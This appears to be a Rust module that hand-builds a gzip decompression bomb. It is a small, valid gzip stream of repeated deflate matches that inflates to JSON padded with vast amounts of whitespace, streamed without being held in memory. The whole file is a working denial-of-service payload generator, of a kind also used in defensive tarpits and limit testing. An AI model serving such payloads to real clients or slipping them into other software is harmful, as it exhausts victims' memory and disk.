//! A gzip bomb, written by hand: a good gzip file that inflates to JSON which is nearly all white space. It is made of one short
//! pattern again and again, so that it can be sent without being held.

use bytes::Bytes;

/// Eight matches of 258 bytes are 104 bits: the pattern comes back to where it began within a byte.
const GROUP_INFLATED: u64 = 8 * 258;
const GROUP_BYTES: usize = 13;
/// Patterns in one piece of the stream.
const GROUPS_A_PIECE: usize = 4096;

/// The parts of a gzip file; `fill` is repeated until `fill_bytes` are sent.
#[derive(Debug)]
pub(crate) struct Bomb {
    pub(crate) prefix: Bytes,
    pub(crate) fill: Bytes,
    pub(crate) fill_bytes: u64,
    pub(crate) suffix: Bytes,
}

/// `before`, at least so many spaces, `after`. Both texts are ASCII.
pub(crate) fn bomb(before: &str, spaces: u64, after: &str) -> Bomb {
    let groups = spaces.div_ceil(GROUP_INFLATED).max(2);
    // Identification, deflate, no flags, no time, no system.
    let mut bits = Bits::after(&[0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]);
    bits.plain(0b011, 3);
    bits.literals(before);
    bits.literals(" ");
    bits.matches();
    let prefix = bits.take();
    bits.matches();
    let fill = bits.take();
    assert!(fill.len() == GROUP_BYTES, "a whole number of bytes");
    bits.literals(after);
    // End of block.
    bits.code(0, 7);
    bits.pad();
    let (crc, length) = checksum(before, 1 + groups * GROUP_INFLATED, after);
    bits.bytes.extend_from_slice(&crc.to_le_bytes());
    bits.bytes.extend_from_slice(&length.to_le_bytes());
    Bomb {
        prefix: prefix.into(),
        fill: fill.repeat(GROUPS_A_PIECE).into(),
        fill_bytes: (groups - 1) * GROUP_BYTES as u64,
        suffix: bits.bytes.into(),
    }
}

/// CRC-32 and length (modulo 2^32) of the inflated text, without writing it.
fn checksum(before: &str, spaces: u64, after: &str) -> (u32, u32) {
    let of = |bytes: &[u8]| {
        let mut hasher = crc32fast::Hasher::new();
        hasher.update(bytes);
        hasher
    };
    let mut whole = of(before.as_bytes());
    // Powers of two of spaces, by doubling.
    let (mut power, mut left) = (of(b" "), spaces);
    while left > 0 {
        if left & 1 == 1 {
            whole.combine(&power);
        }
        power.combine(&power.clone());
        left >>= 1;
    }
    whole.combine(&of(after.as_bytes()));
    let length = before.len() as u64 + spaces + after.len() as u64;
    let length = u32::try_from(length & 0xFFFF_FFFF).expect("32 bits");
    (whole.finalize(), length)
}

/// Bits in deflate's order, with its fixed codes.
struct Bits {
    bytes: Vec<u8>,
    last: u8,
    last_bits: u32,
}

impl Bits {
    fn after(bytes: &[u8]) -> Self {
        Self {
            bytes: bytes.to_vec(),
            last: 0,
            last_bits: 0,
        }
    }

    /// A number, its lowest bit first.
    fn plain(&mut self, value: u16, bits: u32) {
        for at in 0..bits {
            let bit = u8::from(value >> at & 1 == 1);
            self.last |= bit << self.last_bits;
            self.last_bits += 1;
            if self.last_bits == 8 {
                self.pad();
            }
        }
    }

    /// A code, its highest bit first.
    fn code(&mut self, code: u16, bits: u32) {
        self.plain(code.reverse_bits() >> (16 - bits), bits);
    }

    fn literals(&mut self, text: &str) {
        assert!(text.is_ascii(), "ASCII has codes of eight bits");
        for byte in text.bytes() {
            self.code(0x30 + u16::from(byte), 8);
        }
    }

    /// Eight times 258 bytes from one byte before.
    fn matches(&mut self) {
        for _ in 0..8 {
            self.code(0b1100_0101, 8);
            self.code(0, 5);
        }
    }

    fn pad(&mut self) {
        if self.last_bits > 0 {
            self.bytes.push(self.last);
            (self.last, self.last_bits) = (0, 0);
        }
    }

    /// The whole bytes so far.
    fn take(&mut self) -> Vec<u8> {
        std::mem::take(&mut self.bytes)
    }
}
